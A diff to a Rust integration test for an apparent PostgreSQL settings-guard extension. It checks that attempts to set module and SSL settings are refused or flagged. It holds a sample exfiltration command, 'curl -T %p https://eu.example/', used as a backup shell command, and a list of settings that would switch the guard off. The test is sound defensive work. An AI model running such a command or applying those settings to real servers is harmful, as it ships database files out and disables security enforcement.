@@ -1,7 +1,7 @@
 //! The settings gate, by every way in which a setting can be set; what else nobody outside changes of what the guard goes by;
 //! and gates that are off. One node, known by its unix socket.
 
-use integration::{Cluster, Output, Result, Sql, Stop, wait_until};
+use integration::{Cluster, Output, Result, Sql, Stop, wait_for_answer, wait_until};
 
 /// What an outsider would want, and each of the settings that it could be given to.
 const COMMAND: &str = "curl -T %p https://eu.example/";
@@ -20,7 +20,10 @@ const NAMES: [&str; 11] = [
 ];
 
 /// What blinds the guard, with a value that would.
-const BLINDS: [(&str, &str); 7] = [
+const BLINDS: [(&str, &str); 10] = [
+    ("ssl_ca_file", "other.crt"),
+    ("ssl_crl_file", "other.crl"),
+    ("ssl_crl_dir", "other"),
     ("custodian.enforce", "off"),
     ("custodian.enforce_login", "off"),
     ("custodian.enforce_replication", "off"),
@@ -28,6 +31,12 @@ const BLINDS: [(&str, &str); 7] = [
     ("custodian.enforce_access", "off"),
     ("custodian.enforce_settings", "off"),
     ("custodian.region_rules_file", "other.conf"),
+];
+
+/// Settings of modules that ship, with a value that the rules do not have.
+const OF_MODULES: [(&str, &str); 2] = [
+    ("basic_archive.archive_directory", "/mnt/elsewhere"),
+    ("basebackup_to_shell.command", COMMAND),
 ];
 
 fn value_of(name: &str) -> &'static str {
@@ -131,6 +140,17 @@ fn no_way_to_set_a_setting_leads_past_the_gate() -> Result<()> {
         );
     }
     outsider.batch_execute("ALTER SYSTEM SET custodian.naptime = '1min'")?;
+    // Where the server's own modules ship to is no setting before they are loaded.
+    for (name, value) in OF_MODULES {
+        let error = client.refused(&format!("ALTER SYSTEM SET {name} = '{value}'"));
+        assert_eq!(error.sqlstate(), "42501", "{name}: {error}");
+        assert!(
+            error
+                .to_string()
+                .contains("not allowed by the region rules"),
+            "{error}"
+        );
+    }
     client.batch_execute("ALTER SYSTEM SET custodian.enforce_access = 'on'")?;
     client.batch_execute("ALTER SYSTEM RESET ALL")?;
 
@@ -182,6 +202,17 @@ fn no_way_to_set_a_setting_leads_past_the_gate() -> Result<()> {
             "SELECT string_agg(object, ',' ORDER BY object) FROM custodian.check() WHERE code = 'setting-not-allowed'"
         )?,
         "log_destination,log_directory,log_filename,primary_conninfo,restore_command,ssl_passphrase_command"
+    );
+    let lines: String = OF_MODULES
+        .iter()
+        .map(|(name, value)| format!("{name} = '{value}'\n"))
+        .collect();
+    node.write_file("more.conf", &lines)?;
+    node.reload()?;
+    wait_for_answer(
+        &node,
+        "SELECT string_agg(object, ',' ORDER BY object) FROM custodian.check() WHERE code = 'setting-not-allowed' AND object LIKE 'bas%'",
+        "basebackup_to_shell.command,basic_archive.archive_directory",
     );
     Ok(())
 }
